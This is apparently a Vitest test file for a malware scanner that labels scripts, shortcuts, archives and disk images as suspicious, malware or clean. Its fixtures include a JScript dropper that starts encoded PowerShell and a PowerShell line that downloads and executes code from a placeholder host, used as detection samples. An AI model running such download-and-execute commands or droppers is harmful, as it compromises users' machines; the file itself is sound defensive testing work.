import { describe, expect, it } from 'vitest';
import { iso, zip } from '../fixtures/archives.ts';
import { windowsProgram, windowsShortcut } from '../fixtures/programs.ts';
import { judgeFile } from '../fixtures/scan.ts';

const dropper = Buffer.from('var s = new ActiveXObject("WScript.Shell"); s.Run("powershell -e AAAA");');

describe('a script', () => {
  it.each([
    ['open.hta', Buffer.from('<hta:application id=x>')],
    ['open.vbs', Buffer.from('MsgBox "hi"')],
    ['open.js', dropper],
    ['open.ps1', Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x.example")')],
    ['open.js', Buffer.from(`\ufeff${dropper.toString()}`, 'utf16le')],
    ['setup.scr', windowsProgram()],
  ])('that runs on a double click is suspicious: %s', async (name, bytes) => {
    expect((await judgeFile(name, bytes)).decision.verdict).toBe('SUSPICIOUS');
  });

  it('or a shortcut is held when nothing honest comes that way: a shortcut, or alone in an archive', async () => {
    expect((await judgeFile('open.lnk', windowsShortcut())).decision.verdict).toBe('MALWARE');
    const { decision, rules } = await judgeFile('invoice.zip', zip([{ name: 'invoice_7731.js', bytes: dropper }]));
    expect(rules).toEqual(['script', 'lone-program']);
    expect(decision.verdict).toBe('MALWARE');
  });

  it.each([
    ['helper.js', 'export const add = (a, b) => a + b;\n'],
    ['clean.py', 'print("hello")\n'],
    ['build.bat', '@echo off\nnpm run build\n'],
    ['app.log', 'powershell.exe was started\n'],
    ['data.csv', 'a,b\n1,2\n'],
  ])('of a developer, or a text about scripts, is clean: %s', async (name, text) => {
    expect((await judgeFile(name, Buffer.from(text))).decision.verdict).toBe('CLEAN');
  });
});

describe('a disk image', () => {
  it('with a shortcut in it is malware', async () => {
    const { decision, rules } = await judgeFile(
      'documents.iso',
      iso([{ name: 'DOCUMENT.LNK', bytes: windowsShortcut() }]),
    );
    expect(rules).toEqual(['disk-image', 'shortcut', 'lone-program']);
    expect(decision).toMatchObject({ verdict: 'MALWARE', action: 'quarantine' });
  });

  it('with papers in it is shown, and left alone', async () => {
    const { decision, rules } = await judgeFile(
      'archive.iso',
      iso([{ name: 'LETTER.TXT', bytes: Buffer.from('Dear Dana') }]),
    );
    expect({ verdict: decision.verdict, rules }).toEqual({ verdict: 'CLEAN', rules: ['disk-image'] });
  });
});
